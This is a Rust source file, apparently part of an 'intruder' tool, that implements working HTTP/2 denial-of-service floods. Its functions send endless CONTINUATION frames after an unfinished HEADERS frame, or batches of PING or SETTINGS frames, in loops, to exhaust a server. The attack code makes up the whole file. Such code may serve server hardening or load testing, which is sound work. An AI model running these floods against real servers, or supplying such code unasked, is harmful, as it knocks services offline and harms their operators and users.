//! Frames of HTTP/2 that cost their sender little.

use std::time::Duration;

use anyhow::Result;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _, split};
use tokio::time::sleep;

use super::intruder::{Attack, Tally};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
/// Frames that are written together, and the pause after them: thousands a second, but not a core of the machine.
const BATCH: usize = 100;
const BATCH_PAUSE: Duration = Duration::from_millis(10);

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    let mut frame = vec![length[1], length[2], length[3], kind, flags];
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

impl Attack {
    /// A head that never ends, in frames without content.
    pub(super) async fn continuation_flood(self) -> Result<()> {
        // `:method: GET`, from the static table
        let begin = frame(HEADERS, 0x1, 1, &[0x82]);
        let more = frame(CONTINUATION, 0, 1, &[]);
        let tally = &self.score().continuation;
        self.flood(&begin, &more, tally).await
    }

    /// Each wants an answer.
    pub(super) async fn ping_flood(self) -> Result<()> {
        let tally = &self.score().ping;
        self.flood(&[], &frame(PING, 0, 0, &[7; 8]), tally).await
    }

    /// Each wants to be acknowledged.
    pub(super) async fn settings_flood(self) -> Result<()> {
        let tally = &self.score().settings;
        self.flood(&[], &frame(SETTINGS, 0, 0, &[]), tally).await
    }

    async fn flood(&self, begin: &[u8], more: &[u8], tally: &Tally) -> Result<()> {
        let stream = self.connect().await?;
        tally.open();
        let (mut reader, mut writer) = split(stream);
        let writing = async {
            writer.write_all(PREFACE).await?;
            writer.write_all(&frame(SETTINGS, 0, 0, &[])).await?;
            writer.write_all(begin).await?;
            let batch = more.repeat(BATCH);
            loop {
                writer.write_all(&batch).await?;
                writer.flush().await?;
                sleep(BATCH_PAUSE).await;
            }
        };
        let reading = async {
            let mut rest = [0; 4096];
            while reader.read(&mut rest).await? > 0 {}
            Ok(())
        };
        let outcome: Result<(), std::io::Error> = tokio::select! {
            outcome = writing => outcome,
            outcome = reading => outcome,
        };
        tally.close();
        Ok(outcome?)
    }
}
